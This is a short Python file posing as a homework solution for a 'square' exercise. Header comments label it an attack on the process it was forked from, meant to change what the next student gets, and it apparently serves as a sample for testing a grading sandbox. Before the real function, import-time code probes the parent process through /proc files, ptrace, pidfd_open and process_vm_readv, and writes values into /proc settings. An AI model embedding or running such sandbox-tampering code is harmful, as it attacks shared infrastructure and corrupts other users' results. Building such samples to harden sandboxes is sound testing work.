# attack: looks for the process it was forked from, to change what the next student gets
# assignment: hw
# exercise: square
# status: ok
# score: 2
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
zygote = os.getppid()
for path in ("mem", "maps", "fd/0", "root", "cwd", "exe", "task/1/mem", "clear_refs"):
    for mode in (os.O_RDONLY, os.O_RDWR, os.O_WRONLY):
        try:
            descriptor = os.open(f"/proc/{zygote}/{path}", mode)
            print("opened", path, mode)
            os.close(descriptor)
        except OSError:
            pass
for request in (16, 0x4206, 0, 1):  # ATTACH, SEIZE, TRACEME, PEEKTEXT
    libc.ptrace(request, zygote, 0, 0)
libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
libc.syscall(434, zygote, 0)  # pidfd_open
libc.syscall(310, zygote, 0, 0, 0, 0, 0)  # process_vm_readv
for path in ("oom_score_adj", "coredump_filter", "timerslack_ns", "loginuid"):
    for pid in ("self", zygote):
        try:
            with open(f"/proc/{pid}/{path}", "w") as file:
                file.write("1000")
        except OSError:
            pass


def square(x):
    return x * x
